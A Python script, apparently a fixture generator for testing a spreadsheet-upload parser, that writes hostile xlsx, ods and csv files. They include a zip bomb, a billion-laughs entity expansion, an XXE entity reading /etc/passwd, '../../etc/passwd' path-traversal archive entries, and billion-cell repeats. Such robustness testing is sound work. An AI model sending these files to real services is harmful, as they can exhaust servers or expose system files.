"""Makes tables that are meant to harm whoever reads them: python3 hostile_lists.py NAME FILE."""
import sys
import zipfile

NAME, FILE = sys.argv[1:]
XML = '<?xml version="1.0" encoding="UTF-8"?>'
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET = XML + '<worksheet xmlns="' + MAIN + '"><sheetData>'
END = "</sheetData></worksheet>"


def relations(kind, target):
    return XML + f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" Type="{RELATION}/{kind}" Target="{target}"/></Relationships>'


def workbook(pieces, *others):
    """A workbook whose one sheet is written piece by piece."""
    with zipfile.ZipFile(FILE, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("_rels/.rels", relations("officeDocument", "xl/workbook.xml"))
        package.writestr("xl/workbook.xml", XML + f'<workbook xmlns="{MAIN}" xmlns:r="{RELATION}"><sheets>'
                         '<sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>')
        package.writestr("xl/_rels/workbook.xml.rels", relations("worksheet", "worksheets/sheet1.xml"))
        for name, text in others:
            package.writestr(name, text)
        with package.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for piece in pieces:
                sheet.write(piece.encode())


def document(table):
    """An OpenDocument spreadsheet with one table."""
    with zipfile.ZipFile(FILE, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("content.xml", XML + '<office:document-content xmlns:office="o" xmlns:table="t" xmlns:text="x">'
                         '<office:body><office:spreadsheet><table:table table:name="S">' + table
                         + "</table:table></office:spreadsheet></office:body></office:document-content>")


def row(text="x", columns=1, rows=1):
    return (f'<table:table-row table:number-rows-repeated="{rows}"><table:table-cell office:value-type="string" '
            f'table:number-columns-repeated="{columns}"><text:p>{text}</text:p></table:table-cell></table:table-row>')


def spaces():
    yield SHEET
    for _ in range(530):
        yield " " * (1 << 20)


def plain(size, text):
    with open(FILE, "wb") as file:
        file.write(text * (size // len(text)))


def sparse():
    with open(FILE, "wb") as file:
        file.truncate(1 << 30)


def laughs():
    entities = "".join(f'<!ENTITY a{i + 1} "{f"&a{i};" * 10}">' for i in range(12))
    workbook([f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a0 "ha">{entities}]><worksheet>&a12;</worksheet>'])


def text(value, kind="inlineStr"):
    return f'<c t="inlineStr"><is><t>{value}</t></is></c>' if kind == "inlineStr" else f'<c t="{kind}"><v>{value}</v></c>'


MAKERS = {
    "zip-bomb.xlsx": lambda: workbook(spaces()),
    "elements.xlsx": lambda: workbook([SHEET] + ["<row/>" * (1 << 16)] * 400),
    "deep.xlsx": lambda: workbook([SHEET, "<a>" * 100000]),
    "far.xlsx": lambda: workbook([SHEET, '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', END]),
    "laughs.xlsx": laughs,
    "external.xlsx": lambda: workbook(['<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>']),
    "utf7.xlsx": lambda: workbook([SHEET.replace("UTF-8", "UTF-7"), END]),
    "traversal.xlsx": lambda: workbook([SHEET, END], ("../../etc/passwd", "x")),
    "absolute.xlsx": lambda: workbook([SHEET, END], ("/etc/passwd", "x")),
    "many.xlsx": lambda: workbook([SHEET, END], *[(f"f{i}", "") for i in range(20000)]),
    "merges.xlsx": lambda: workbook([SHEET, "</sheetData><mergeCells>"]
                                    + [f'<mergeCell ref="A{i}:B{i}"/>' for i in range(1, 1000001)]
                                    + ["</mergeCells></worksheet>"]),
    "no-text.xlsx": lambda: workbook([SHEET, "<row>", text("Họ và tên"), text("Dân tộc"), "</row><row>", text("Lê An"),
                                      text("99", "s"), "</row>", END]),
    "columns.ods": lambda: document(row(columns=10**9)),
    "rows.ods": lambda: document(row(rows=10**9)),
    "cells.ods": lambda: document(row(text="x" * 40, columns=255, rows=99999)),
    "spaces.ods": lambda: document(row(text='<text:s text:c="999999999"/>' * 1000)),
    "gigabyte.csv": sparse,
    "line.csv": lambda: plain(31 << 20, b"a"),
    "fields.csv": lambda: plain(31 << 20, b"a,"),
    "bytes.csv": lambda: plain(31 << 20, b"\xe9"),
    "lines.csv": lambda: plain(31 << 20, b"a\n"),
    "password.xls": lambda: plain(512, bytes.fromhex("D0CF11E0A1B11AE1")),
}
MAKERS[NAME]()
